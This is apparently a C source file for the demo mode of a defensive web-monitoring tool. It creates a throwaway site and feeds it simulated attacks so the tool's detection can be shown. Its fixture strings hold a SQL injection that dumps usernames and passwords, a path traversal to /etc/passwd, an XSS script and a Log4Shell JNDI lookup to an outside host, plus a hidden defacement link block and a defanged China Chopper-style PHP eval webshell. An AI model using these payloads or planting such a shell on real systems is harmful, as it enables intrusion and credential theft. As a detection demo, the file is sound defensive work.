/* `vigil demo`'s scratch site and attacker (see demo_site.h): fixed texts written into
 * a mkdtemp workspace, removed afterwards with the one tree walker (core/walk). */
#include "cmd/demo_site.h"
#include "core/err.h"
#include "core/walk.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char demo_index[] =
    "<!doctype html>\n<html><head><title>Demo Agency</title></head>\n"
    "<body><h1>Welcome to the Demo Agency</h1><p>Public information.</p></body></html>\n";

/* A few ordinary visits and a few attacks, in nginx combined format; @TS@ becomes
 * the time of the attack, so the day's briefing at the end of the demo shows them. */
static const char demo_access_log[] =
    "198.51.100.7 - - [@TS@] \"GET / HTTP/1.1\" 200 612 \"-\" "
    "\"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"\n"
    "198.51.100.7 - - [@TS@] \"GET /search?q=select+a+union+rep HTTP/1.1\" "
    "200 1024 \"-\" \"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"\n"
    "203.0.113.66 - - [@TS@] \"GET /item.php?id=1%27%20UNION%20SELECT%20"
    "username,password%20FROM%20users--%20 HTTP/1.1\" 200 88 \"-\" \"sqlmap/1.7.2#stable "
    "(https://sqlmap.org)\"\n"
    "203.0.113.66 - - [@TS@] \"GET /../../etc/passwd HTTP/1.1\" 400 0 "
    "\"-\" \"curl/8.0\"\n"
    "203.0.113.66 - - [@TS@] \"GET /comment?text=%3Cscript%3Ealert(1)%3C/"
    "script%3E HTTP/1.1\" 200 50 \"-\" \"Mozilla/5.0\"\n"
    "192.0.2.99 - - [@TS@] \"GET /?x=${jndi:ldap://192.0.2.99/a} HTTP/1.1\" "
    "404 0 \"-\" \"Mozilla/5.0\"\n";

/* What a defacer appends: a hidden block of gambling links. */
static const char demo_defacement[] =
    "<div style=\"display:none\"><a href=\"http://casino.example/\">casino 博彩</a></div>\n";

/* A China Chopper style one-liner as an attacker would drop it, defanged: the
 * stray word inside the brackets is a PHP syntax error, so it can never run. */
static const char demo_webshell[] = "<?php @eval($_POST[DEFANGED 'pass']);?>\n";

static int
write_file(const char *path, const char *mode, const char *text)
{
	FILE *f = fopen(path, mode);
	if (!f)
		return VG_ERR_IO;
	fputs(text, f);
	return fclose(f) == 0 ? VG_OK : VG_ERR_IO;
}

int
demo_site_create(struct demo_site *s, const char *rules)
{
	char yaml[16384], upload[DEMO_PATH_MAX];

	memset(s, 0, sizeof(*s));
	snprintf(s->dir, sizeof(s->dir), "/tmp/vigil-demo-XXXXXX");
	if (!mkdtemp(s->dir)) {
		fprintf(stderr, "vigil demo: cannot create workspace: %s\n", strerror(errno));
		s->dir[0] = '\0';
		return VG_ERR_IO;
	}
	snprintf(s->www, sizeof(s->www), "%s/www", s->dir);
	snprintf(s->page, sizeof(s->page), "%s/www/index.html", s->dir);
	snprintf(s->shell, sizeof(s->shell), "%s/www/upload/avatar.php", s->dir);
	snprintf(s->log, sizeof(s->log), "%s/access.log", s->dir);
	snprintf(s->cfg, sizeof(s->cfg), "%s/vigil.yaml", s->dir);
	snprintf(s->ready, sizeof(s->ready), "%s/watch.ready", s->dir);
	snprintf(yaml, sizeof(yaml),
	    "store: {path: %s/vigil.db}\n"
	    "log: {level: warn}\n"
	    "monitor:\n  rules: %s\n  sources:\n    - {name: web, path: %s, format: combined}\n"
	    "webroots:\n  - {name: demo-site, path: %s, policy: restore}\n"
	    "protect: {backup_dir: %s/backup, quarantine_dir: %s/quarantine}\n",
	    s->dir, rules, s->log, s->www, s->dir, s->dir);
	if (mkdir(s->www, 0755) != 0 || write_file(s->page, "w", demo_index) != VG_OK ||
	    write_file(s->log, "w", "") != VG_OK || write_file(s->cfg, "w", yaml) != VG_OK) {
		fprintf(stderr, "vigil demo: cannot populate %s: %s\n", s->dir, strerror(errno));
		return VG_ERR_IO;
	}
	snprintf(upload, sizeof(upload), "%s/www/upload", s->dir);
	mkdir(upload, 0755);
	return VG_OK;
}

/* Bottom-up: a directory is opened up (quarantined things are mode 000) before its
 * children are removed, and removed itself after them. */
static int
rm_entry(void *arg, const struct vg_walk_entry *e)
{
	(void)arg;
	if (e->event == VG_WALK_DIR_DONE || e->event == VG_WALK_DIR_FAILED)
		unlinkat(e->dirfd, e->name, AT_REMOVEDIR);
	else if (e->type == S_IFDIR) {
		/* best effort: if it stays closed, removing its children fails and says so */
		if (fchmodat(e->dirfd, e->name, 0700, 0) != 0)
			return 0;
	} else
		unlinkat(e->dirfd, e->name, 0);
	return 0;
}

void
demo_site_remove(const struct demo_site *s)
{
	if (s->dir[0])
		vg_walk(AT_FDCWD, s->dir, "", 0, VG_WALK_POST, rm_entry, NULL);
}

void
demo_site_attack_log(const struct demo_site *s)
{
	char ts[40], *text, *p;
	time_t now = time(NULL);
	struct tm tm;
	size_t tl;

	gmtime_r(&now, &tm);
	tl = strftime(ts, sizeof(ts), "%d/%b/%Y:%H:%M:%S +0000", &tm);
	if (!(text = malloc(sizeof(demo_access_log) + 64 * tl)))
		return;
	p = text;
	for (const char *in = demo_access_log; *in;) {
		if (strncmp(in, "@TS@", 4) == 0) {
			memcpy(p, ts, tl);
			p += tl;
			in += 4;
		} else {
			*p++ = *in++;
		}
	}
	*p = '\0';
	write_file(s->log, "a", text);
	free(text);
}

void
demo_site_deface(const struct demo_site *s)
{
	write_file(s->page, "a", demo_defacement);
}

void
demo_site_drop_shell(const struct demo_site *s)
{
	write_file(s->shell, "w", demo_webshell);
}
